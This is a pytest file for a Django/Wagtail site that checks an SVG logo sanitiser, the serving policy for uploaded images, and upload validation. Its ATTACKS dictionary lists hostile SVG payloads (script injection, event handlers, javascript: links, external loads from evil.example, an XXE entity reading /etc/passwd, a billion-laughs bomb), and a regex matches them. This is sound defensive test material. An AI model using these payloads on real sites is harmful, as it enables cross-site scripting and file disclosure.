"""Logos may be drawings (SVG), which are documents that could act: nothing in them does once they are stored."""

import re

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template import Context, Template
from wagtail.models import Site

from core.drawings import DEEPEST, LARGEST, MOST_ELEMENTS, sanitised
from core.models import BrandSettings, SiteImage
from tests import factories

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
GOOD = f'<svg {NS} viewBox="0 0 200 50"><title>Telaio</title><rect id="r" width="200" height="50" fill="#2a3fb0"/></svg>'


def svg(content="", attributes="", head="") -> str:
    return f'{head}<svg {NS} viewBox="0 0 200 50" {attributes}>{content}<circle r="5"/></svg>'


ATTACKS = {
    "script": svg("<script>alert(1)</script>"),
    "script in another case": svg("<SCRIPT>alert(1)</SCRIPT>"),
    "script under a prefix": svg(
        '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'
    ),
    "script of html": svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
    "script from elsewhere": svg('<script href="https://evil.example/x.js"/>'),
    "script as data": svg('<script href="data:text/javascript,alert(1)"/>'),
    "handler on the root": svg(attributes='onload="alert(1)"'),
    "handler on a shape": svg('<rect onclick="alert(1)" onmouseover="alert(1)"/>'),
    "handler in another case": svg('<rect OnLoad="alert(1)"/>'),
    "handler under a prefix": svg(
        '<rect x:onload="alert(1)" xmlns:x="http://www.w3.org/2000/svg"/>'
    ),
    "handler of an animation": svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    "animated handler": svg('<set attributeName="onload" to="alert(1)"/>'),
    "animated link": svg(
        '<a id="a"><animate attributeName="href" values="javascript:alert(1)"/></a>'
    ),
    "link": svg('<a href="javascript:alert(1)"><text>x</text></a>'),
    "link with a line in it": svg('<a xlink:href="java&#10;script:alert(1)"><text>x</text></a>'),
    "link to data": svg(
        '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a>'
    ),
    "html in it": svg(
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>'
    ),
    "frame": svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>'),
    "embedded object": svg(
        '<embed xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>'
    ),
    "picture from elsewhere": svg('<image href="https://evil.example/pixel.png"/>'),
    "picture from beside": svg('<image xlink:href="/media/secret.png"/>'),
    "drawing in a picture": svg(
        '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"/>'
    ),
    "used from elsewhere": svg('<use href="https://evil.example/x.svg#a"/>'),
    "used as data": svg('<use href="data:image/svg+xml,&lt;svg id=x onload=alert(1)&gt;#x"/>'),
    "stylesheet from elsewhere": svg("<style>@import url(https://evil.example/x.css);</style>"),
    "stylesheet named without url": svg('<style>@import "https://evil.example/x.css";</style>'),
    "fill from elsewhere": svg('<rect fill="url(https://evil.example/x.svg#a)"/>'),
    "style from elsewhere": svg('<rect style="fill:url(//evil.example/x.svg#a)"/>'),
    "font from elsewhere": svg(
        "<style>@font-face{font-family:a;src:url(https://evil.example/a)}</style>"
    ),
    "escaped address": svg("<style>rect{fill:\\75 rl(https://evil.example/x)}</style>"),
    "instruction": svg(head='<?xml-stylesheet href="javascript:alert(1)"?>'),
    "entity from a file": svg(
        "<text>&x;</text>", head='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "entity with a script": svg(
        "&x;", head='<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>'
    ),
    "billion laughs": svg(
        "<text>&c;</text>",
        head='<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
    ),
    "handler of the old kind": svg('<handler type="text/javascript">alert(1)</handler>'),
    "listener": svg('<listener event="click" handler="#x"/>'),
    "words that look like a script": svg("<text><![CDATA[<script>alert(1)</script>]]></text>"),
    "comment that ends early": svg("<!--><script>alert(1)</script>-->"),
}
ACTS = re.compile(
    r"<(?:\w+:)?(?:script|foreignObject|iframe|embed|handler|listener|body|img)\b|\bon[a-z]+\s*=|"
    r"(?:href|src)\s*=\s*[\"'](?!#)|@import|url\(\s*[\"']?(?!#)|<!ENTITY|<\?xml-stylesheet|attributeName\s*=\s*.(?:xlink:)?(?:href|on)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_nothing_that_acts_is_left_in_a_drawing(attack, encoding):
    try:
        clean = sanitised(ATTACKS[attack].encode(encoding)).decode()
    except ValidationError:
        # Refused with a message, as the next test but one shows.
        return
    assert ACTS.search(clean) is None, clean
    assert "\\" not in clean
    assert "<circle" in clean


def test_the_pattern_of_this_test_knows_the_attacks():
    harmless = {"words that look like a script"}
    unseen = {name for name, drawing in ATTACKS.items() if not ACTS.search(drawing)}
    assert unseen <= {"animated handler", "escaped address"} | harmless


def test_what_a_logo_is_made_of_stays():
    clean = sanitised(
        svg(
            '<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>'
            '<path d="M0 0h9" fill="url(#g)" class="k"/><use href="#g"/><style>.k{stroke:#123}</style>'
        ).encode()
    ).decode()
    for part in ('id="g"', 'd="M0 0h9"', "url(#g)", 'href="#g"', ".k{stroke:#123}", "viewBox"):
        assert part in clean


@pytest.mark.parametrize(
    "drawing",
    [
        b"",
        b"\xff\xfe\x00",
        b"words",
        b"<html><body/></html>",
        b"<svg><circle/></svg>",
        GOOD[:60].encode(),
        factories.picture_bytes(),
        svg("<g>" * (DEEPEST + 1) + "</g>" * (DEEPEST + 1)).encode(),
        svg("<g/>" * (MOST_ELEMENTS + 1)).encode(),
        svg(" " * LARGEST).encode(),
        b'<?xml version="1.0" encoding="no-such"?>' + GOOD.encode(),
    ],
)
def test_what_is_no_drawing_or_too_much_of_one_is_refused_with_a_message(drawing):
    with pytest.raises(ValidationError) as refusal:
        sanitised(drawing)
    assert len(refusal.value.message) > 30


def upload(client, name: str, content: bytes):
    file = SimpleUploadedFile(name, content, "image/svg+xml")
    form = {"title": "Logo", "file": file, "collection": "1", "description": "", "credit": ""}
    return client.post("/admin/images/add/", form)


def test_a_drawing_is_stored_clean_and_served_under_a_policy_that_runs_nothing(admin, client):
    assert upload(admin, "logo.svg", svg("<script>alert(1)</script>").encode()).status_code == 302
    image = SiteImage.objects.get()
    assert (image.width, image.height) == (200, 50)
    for address in (image.file.url, image.get_rendition("max-100x100|format-webp").url):
        response = client.get(address)
        content = b"".join(response.streaming_content).decode()
        assert "script" not in content
        assert "<circle" in content or "circle" in content
        assert response["Content-Type"] == "image/svg+xml"
        assert response["Content-Security-Policy"].startswith("default-src 'none'")
        assert "sandbox" in response["Content-Security-Policy"]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("logo.svg", factories.picture_bytes()),
        ("logo.SVG", factories.picture_bytes()),
        ("logo.png", GOOD.encode()),
        ("logo.jpg", GOOD.encode()),
        ("logo.svgz", GOOD.encode()),
    ],
)
def test_a_picture_under_the_name_of_the_other_kind_is_refused(admin, name, content):
    response = upload(admin, name, content)
    assert response.context["form"].errors["file"]
    assert not SiteImage.objects.exists()


@pytest.fixture
def drawing(db) -> SiteImage:
    file = ContentFile(sanitised(GOOD.encode()), name="logo.svg")
    return SiteImage.objects.create(title="Logo", file=file)


SPECS = [
    "image one format-jpeg width-1280",
    "image one fill-180x180 format-png",
    "image one max-480x96",
    "picture one format-{avif,webp,jpeg} width-{480,960,1600} sizes='100vw'",
    "picture one format-{avif,webp,jpeg} fill-{64x64,128x128} sizes='4rem'",
    "picture one format-{webp,png} max-{240x96,480x192} sizes='10rem'",
]


@pytest.mark.parametrize("spec", SPECS)
def test_templates_show_a_drawing_as_one(drawing, spec):
    template = Template("{% load wagtailimages_tags %}{% " + spec + " alt='' %}")
    html = template.render(Context({"one": drawing}))
    addresses = re.findall(r'(?:src|srcset)="(\S+?)["\s]', html)
    assert addresses
    assert all(address.endswith(".svg") for address in addresses)
    assert "<svg" not in html


def test_a_logo_is_shown_in_header_and_admin_and_an_icon_is_refused(admin, home, drawing):
    brand = BrandSettings.for_site(Site.objects.get())
    brand.logo = drawing
    brand.full_clean()
    brand.save()
    for address in ("/", "/admin/"):
        assert re.search(r'<img[^>]+src="\S+\.svg"', admin.get(address).content.decode())
    brand.favicon = drawing
    with pytest.raises(ValidationError) as refusal:
        brand.full_clean()
    assert "PNG" in str(refusal.value.message_dict["favicon"])


def test_a_page_whose_every_picture_is_a_drawing_is_shown_shared_and_fed(client, blog, drawing):
    drawing.decorative = True
    post = factories.BlogPostPageFactory(
        parent=blog,
        slug="post",
        cover=drawing,
        share_image=drawing,
        body=[("figure", {"image": drawing, "caption": "", "credit": "", "size": "text"})],
    )
    post.save_revision().publish()
    text = client.get("/blog/post/").content.decode()
    # Networks show no drawings: the card is drawn in its place.
    shared = re.search(r'property="og:image" content="(.*?)"', text)[1]
    assert "/share/" in shared
    for address in ("/blog/", "/blog/feed/", "/blog/feed/json/", "/"):
        assert client.get(address).status_code in (200, 404)
